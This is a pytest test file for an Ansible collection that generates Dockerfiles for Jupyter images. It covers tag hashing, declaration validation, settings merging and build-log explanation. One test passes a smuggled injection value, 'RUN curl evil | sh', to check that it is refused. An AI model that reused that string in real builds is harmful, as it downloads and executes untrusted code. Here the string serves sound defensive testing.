# Copyright: the carrel.jupyter authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Declared images: what is refused, what goes into the tag, and what a failed build says."""

from __future__ import annotations

import json
import subprocess
from typing import Any

import pytest
from ansible_collections.carrel.jupyter.plugins.module_utils._images import build as _image_build
from ansible_collections.carrel.jupyter.plugins.module_utils._images import kernels
from ansible_collections.carrel.jupyter.plugins.module_utils._images import log as _image_log
from ansible_collections.carrel.jupyter.plugins.module_utils._images.build import context, read_all, tag

BASH = {
    "title": "Bash", "language": "bash", "environment": "languages", "pip": ["bash_kernel==0.10.0"],
    "argv": ["{environment}/bin/python", "{connection_file}"], "smoke": {"code": "1", "output": "1"}, "tested": True,
}  # fmt: skip
GO = {**BASH, "tested": False, "reason": "its source is out of reach", "environment": None, "pip": []}
KERNELS = {"bash": BASH, "go": GO}


def declared(**changes: Any) -> dict[str, Any]:
    empty = {key: [] for key in ("apt", "conda", "pip", "npm", "kernels", "files", "extra_ca_certificates")}
    rest = {"settings": {}, "build_args": {}, "labels": {}, "push": None, "folder": None, "dockerfile": "Dockerfile"}
    return {"name": "lab", "base": "debian:trixie-slim", **empty, **rest, **changes}


def build(**changes: Any) -> _image_build.Build:
    (made,), problems = read_all([declared(**changes)], KERNELS)
    assert not problems and made
    return made


def tag_of(**changes: Any) -> str:
    made = build(**changes)
    return tag(made, context(made, "1000"), changes.get("base", "") + "id")


def test_the_dockerfile_ends_as_the_user_of_its_base():
    lines = context(build(apt=["curl"]), "1000:100")["Dockerfile"].decode().splitlines()
    assert lines[:2] == ["FROM debian:trixie-slim", "USER root"] and lines[-1] == "USER 1000:100"
    assert context(build(), "")["Dockerfile"].decode().endswith("USER root\n")


def test_every_step_is_valid_shell_and_prints_its_name():
    made = build(
        apt=["curl"], conda=["gdal=3.10.3"], pip=["humanize==4.13.0"], npm=["cowsay@1.6.0"], kernels=["bash"],
        files=[{"dest": "/etc/motd", "content": "hello", "mode": "0644"}],
        extra_ca_certificates=["-----BEGIN CERTIFICATE-----\n"], build_args={"APT_MIRROR": "http://mirror/debian"},
    )  # fmt: skip
    lines = context(made, "")["Dockerfile"].decode().splitlines()
    steps = [json.loads(line[len("RUN ") :]) for line in lines if line.startswith("RUN ")]
    parts = [
        _image_log.failed_part(step[2].replace("echo '", "").replace("echo ", "").replace("'", "")) for step in steps
    ]
    assert parts == ["APT_MIRROR", "extra_ca_certificates", "apt", "conda", "kernel bash", "pip", "npm", "files"]
    for step in steps:
        assert step[:2] == ["/bin/sh", "-ec"]
        assert subprocess.run(["sh", "-n"], input=step[2], text=True, capture_output=True, check=False).stderr == ""


def test_labels_are_words_that_docker_leaves_as_they_are():
    """Docker replaces $NAME, and knows no \\u00fc."""
    labels = {"org.example.vendor": "Büro \"$HOME\" \\ 'x'", "a$b": "", "plain": "GIS lab"}
    lines = context(build(labels=labels), "")["Dockerfile"].decode().splitlines()
    assert [line for line in lines if line.startswith("LABEL")] == [
        r'''LABEL "a\$b"=""''',
        r'''LABEL "org.example.vendor"="Büro \"\$HOME\" \\ 'x'"''',
        'LABEL "plain"="GIS lab"',
    ]


def test_files_and_kernels_are_in_the_context():
    made = build(kernels=["bash"], files=[{"dest": "/etc/motd", "content": "hello", "mode": "0600"}])
    files = context(made, "")
    assert files["files/0"] == b"hello" and b"COPY files/0 /etc/motd" in files["Dockerfile"]
    assert json.loads(files["kernels/bash/kernel.json"])["argv"][0] == "/opt/kernels/languages/bin/python"


def test_the_same_declaration_has_the_same_tag():
    assert tag_of(pip=["a==1"]) == tag_of(pip=["a==1"])
    assert tag_of(build_args={"APT_MIRROR": "http://mirror/debian", "http_proxy": "http://proxy"}) == tag_of()
    certificates = {"extra_ca_certificates": ["-----BEGIN CERTIFICATE-----\n"]}
    assert tag_of(build_args={"APT_MIRROR": "http://mirror/debian"}, **certificates) == tag_of(**certificates)
    assert tag_of().startswith("lab:") and len(tag_of()) == len("lab:") + 12


@pytest.mark.parametrize(
    "change",
    [
        {"apt": ["curl"]}, {"pip": ["a==1"]}, {"npm": ["a@1"]}, {"kernels": ["bash"]}, {"labels": {"a": "b"}},
        {"files": [{"dest": "/a", "content": "", "mode": "0644"}]}, {"build_args": {"VERSION": "1"}},
        {"extra_ca_certificates": ["-----BEGIN CERTIFICATE-----"]}, {"base": "debian:bookworm-slim"}, {"name": "other"},
    ],
)  # fmt: skip
def test_whatever_is_in_the_image_changes_the_tag(change):
    assert tag_of(**change) != tag_of()


def test_the_way_to_the_network_does_not_change_the_tag():
    proxies = {"https_proxy": "http://proxy:3128", "HTTPS_PROXY": "http://ada:secret@proxy:3128", "all_proxy": "s://p"}
    assert b"PROXY" not in context(build(build_args=proxies), "")["Dockerfile"], "or it would stay in the history"
    assert tag_of(build_args={**proxies, "PIP_INDEX_URL": "https://mirror/simple"}) == tag_of()


def test_a_base_that_moved_changes_the_tag():
    made = build()
    assert tag(made, context(made, ""), "sha256:1") != tag(made, context(made, ""), "sha256:2")


def test_an_image_that_each_engine_builds_for_itself_counts_by_its_tag():
    """Its id has the time of the build, but its tag is a digest of what is in it."""
    made = build(base="carrel/lab:0123456789ab")
    assert tag(made, context(made, ""), "sha256:1") == tag(made, context(made, ""), "sha256:2")
    other = build(base="carrel/lab:0123456789ac")
    assert tag(made, {}, "sha256:1") != tag(other, {}, "sha256:1")


def test_values_of_build_arguments_are_not_among_the_options_that_everybody_reads():
    """But docker's own variables stay as they are."""
    given = {
        "https_proxy": "http://ada:secret@proxy",
        "VERSION": "",
        "PATH": "/x",
        "DOCKER_HOST": "y",
        "LD_PRELOAD": "z",
    }
    options, environment = _image_build.arguments(given)
    assert options == [
        "--build-arg=DOCKER_HOST=y", "--build-arg=LD_PRELOAD=z", "--build-arg=PATH=/x", "--build-arg=VERSION",
        "--build-arg=https_proxy",
    ]  # fmt: skip
    assert environment == {"https_proxy": "http://ada:secret@proxy", "VERSION": ""}


def test_a_folders_tag_is_its_content_and_its_arguments():
    one = _image_build.folder_tag(declared(folder="/f", folder_digest="a", build_args={"APP_VERSION": "1"}))
    assert one == _image_build.folder_tag(declared(folder="/g", folder_digest="a", build_args={"APP_VERSION": "1"}))
    assert one != _image_build.folder_tag(declared(folder="/f", folder_digest="b", build_args={"APP_VERSION": "1"}))
    assert one != _image_build.folder_tag(declared(folder="/f", folder_digest="a", build_args={"APP_VERSION": "2"}))


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"name": "Lab"}, "image Lab: 'Lab' is not a name for an image"),
        ({"base": "debian trixie"}, "image lab: base: 'debian trixie' is not an image"),
        (
            {"kernels": ["bsh"]},
            "image lab: kernels: there is no kernel bsh; did you mean bash?",
        ),
        ({"apt": ["--yes"]}, "image lab: apt: '--yes' is not a package"),
        ({"extra_ca_certificates": ["/etc/ca.pem"]}, "image lab: extra_ca_certificates: one is not PEM"),
        (
            {"files": [{"dest": "motd", "content": "", "mode": "0644"}]},
            "image lab: files: dest: 'motd' is not an abs",
        ),
        ({"files": [{"dest": "/a/../b", "content": "", "mode": "0644"}]}, "dest: '/a/../b' is not an absolute path"),
        ({"files": [{"dest": "/motd", "content": "", "mode": "420x"}]}, "image lab: files: mode: '420x' is not a mode"),
        ({"build_args": {"A B": "1"}}, "image lab: build_args: 'A B' is not the name of a variable"),
        (
            {"build_args": {"PYTHON_VERSION": 3.1}},
            "build_args: PYTHON_VERSION is not text, and YAML may have changed it; write",
        ),
        ({"build_args": {"DEBUG": False}, "folder": "/f"}, "image lab: build_args: DEBUG is not text"),
        ({"labels": {"version": 1.1}}, "image lab: labels: version is not text"),
        ({"labels": {"version": "1\nRUN x"}}, "image lab: labels: 'version' has more than one line"),
        ({"labels": {"a\rb": "1"}}, r"image lab: labels: 'a\rb' has more than one line"),
        (
            {"files": [{"dest": "/motd", "content": "", "mode": 420}]},
            "mode: 420 is not a mode; write octal digits in quotes",
        ),
        ({"push": "jupyter"}, "image lab: push: 'jupyter' is not a registry; write its address"),
        ({"push": "registry.example.org/"}, "push: 'registry.example.org/' is not a registry"),
    ],
)
def test_invalid_declarations_are_refused(change, message):
    _unused, problems = read_all([declared(**change)], KERNELS)
    assert len(problems) == 1 and message in problems[0]


@pytest.mark.parametrize("push", ["registry.example.org", "registry:5000/a/b", "localhost/x", "127.0.0.1:5000"])
def test_registries(push):
    assert read_all([declared(push=push)], {})[1] == []


def test_all_problems_are_reported_at_once():
    _unused, problems = read_all([declared(kernels=["x"]), declared(apt=[""]), declared(name="y", push="z")], KERNELS)
    assert [problem.partition(":")[0] for problem in problems] == [
        "image lab is declared twice; give each a name of its own", "image lab", "image lab", "image y",
    ]  # fmt: skip


def test_packages_without_a_version_are_warned_of():
    conda = ["e=1.2", "f==1.2=py_0", "conda-forge::g=3", "h", "i>=1", "j=1.*"]
    warnings = _image_build.unpinned(build(pip=["a==1", "b>=2"], conda=conda, npm=["@scope/c@1", "@scope/d"]))
    assert [warning.split()[2] for warning in warnings] == ["b>=2", "h", "i>=1", "j=1.*", "@scope/d"]


JUPYTERLAB = {
    "settings": "/opt/server/share/jupyter/lab/settings",
    "overrides": {"p:theme": {"theme": "Light", "size": 1}},
    "plugins": {"p:theme": ["theme", "size"], "p:any": None},
}


def test_settings_are_merged_into_the_bases():
    file = _image_build.with_settings(build(), {"p:theme": {"theme": "Dark"}}, JUPYTERLAB).files[0]
    assert file.destination == "/opt/server/share/jupyter/lab/settings/overrides.json"
    assert json.loads(file.content) == {"p:theme": {"theme": "Dark", "size": 1}}


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (
            {"p:thme": {}},
            "image lab: settings: the image debian:trixie-slim has no plugin 'p:thme': did",
        ),
        (
            {"p:theme": {"tehme": 1}},
            "has no setting 'tehme': did you mean 'theme'?",
        ),
    ],
)
def test_settings_unknown_to_the_base_are_reported(settings, message):
    with pytest.raises(kernels.KernelError) as error:
        _image_build.with_settings(build(), settings, JUPYTERLAB)
    assert message in str(error.value)


@pytest.mark.parametrize("folder", ["/opt/x\nRUN curl evil | sh\n#", "opt", "/opt/a b", "/opt/$HOME", "/o'", "", 7, []])
def test_what_a_base_says_becomes_no_line_of_the_dockerfile(folder):
    """An engine's account decides what the engine says."""
    with pytest.raises(kernels.KernelError, match="image lab: JupyterLab in debian:trixie-slim reads its settings"):
        _image_build.with_settings(build(), {"p:theme": {"theme": "Dark"}}, {**JUPYTERLAB, "settings": folder})


LONG = "\n".join(f"Step {number}" for number in range(400)) + "\ncarrel-part: "


@pytest.mark.parametrize(
    ("log", "message"),
    [
        ("apt\nE: Unable to locate package curll\nThe command returned 100", "apt: there is no package curll;"),
        ("pip\nERROR: Could not find a version\nERROR: No matching distribution found for humanze==1",
         "pip: there is no package humanze==1;"),
        ("npm\nnpm error 404  'cowsai@1' is not in this registry.", "npm: there is no package cowsai@1;"),
        # what conda, mamba with libmamba, and rattler say
        ("conda\nPackagesNotFoundError: The following packages are not available from current channels:\n\n  - gdaal=3",
         "conda: there is no package gdaal=3;"),
        ("conda\nerror    libmamba Could not solve for environment specs\n"
         "    └─ gdaal =3 * does not exist (perhaps a typo or a missing channel).",
         "conda: there is no package gdaal;"),
        ("conda\nCannot solve the request because of: No candidates were found for gdaal 3.*.",
         "conda: there is no package gdaal;"),
        ("conda\ncarrel-no-conda: the base has no mamba, conda or micromamba",
         "conda: the base has no mamba, conda or micromamba: take a base with conda"),
        ("pip\nE: something else", "pip: it failed. The log ends with:\n  E: something else"),
        ("pip\nWARNING: Retrying: NewConnectionError: Failed to establish a new connection: [Errno -2]\n"
         "ERROR: No matching distribution found for humanize==4", "pip: a server did not answer; look"),
        ("kernel go\ngo: dial tcp: i/o timeout", "kernel go: it could not be built. It is declared but not tested"),
    ],
)  # fmt: skip
def test_a_failed_build_is_explained_in_a_few_lines(log, message):
    known = [kernels.read(name, declaration) for name, declaration in KERNELS.items()]
    said = _image_log.explain(LONG + log, known)
    assert said.startswith(message) and len(said.splitlines()) <= 10
    buildkit = "\n".join(f"#8 0.1{number} {line}" for number, line in enumerate((LONG + log).splitlines()))
    assert _image_log.explain(buildkit, known) == said


def test_colours_and_the_steps_own_text_are_left_out():
    red = "\x1b[91mE:\x1b[0m\x1b[91m Unable to locate package x\x1b[0m\n"
    advice = "\x1b[0mDEPRECATED: The legacy builder is old.\n            Install it\n\n"
    script = "The command '/bin/sh -ec echo 'carrel-part: apt'\nexport HOME=/tmp\n' returned a non-zero code: 100"
    said = _image_log.explain(f"carrel-part: apt\n{red}{advice}{script}")
    assert said.splitlines()[1:] == ["  E: Unable to locate package x"] and "no package x;" in said
    assert _image_log.explain(f"Step 1\n{advice}unable to find user root").endswith("  unable to find user root")
    buildkit = (
        "#8 0.1 carrel-part: apt\n#8 0.2 E: why\n------\n > [2/2] RUN sh:\n0.1 carrel-part: apt\n------\nERROR: failed"
    )
    assert _image_log.explain(buildkit).endswith("The log ends with:\n  E: why")


@pytest.mark.parametrize(
    ("log", "again"),
    [
        ("Temporary failure resolving 'deb.debian.org'", True),
        ("net/http: TLS handshake timeout", True),
        ("received unexpected HTTP status: 503 Service Unavailable", True),
        ("E: Unable to locate package x", False),
        ("denied: requested access to the resource is denied", False),
        ("unauthorized: authentication required\nconnection reset by peer", False),
        (
            "carrel-part: apt\nconnection timed out, again\ncarrel-part: pip\nERROR: Invalid requirement",
            False,
        ),
    ],
)
def test_only_the_networks_failures_are_tried_again(log, again):
    assert _image_log.is_network(log) is again


@pytest.mark.parametrize(
    ("log", "message"),
    [
        (
            "no basic auth credentials",
            "asks for a login; give image_registries an entry for r.example:5000",
        ),
        ("manifest for r.example:5000/x:1 not found: manifest unknown", "the registry does not have it"),
        (
            "no matching manifest for linux/amd64 in the manifest list",
            "it is an image for another architecture",
        ),
        ("dial tcp 127.0.0.1:1: connect: connection refused", "r.example:5000 did not answer"),
    ],
)
def test_a_failed_transfer_comes_with_advice(log, message):
    assert message in _image_log.explain_transfer("pulling", "r.example:5000/x:1", log)
